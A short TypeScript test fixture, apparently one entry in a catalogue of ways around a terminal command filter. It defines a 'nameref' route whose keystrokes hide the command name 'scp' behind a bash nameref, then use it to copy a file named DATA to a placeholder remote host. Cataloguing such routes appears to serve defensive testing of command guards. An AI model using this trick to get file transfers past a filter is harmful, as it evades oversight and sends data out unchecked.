import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by a nameref',
  source: 'thought of with the keys of the line editor',
  keys: ['x=scp; declare -n y=x\r', '$y DATA host:\r'],
};
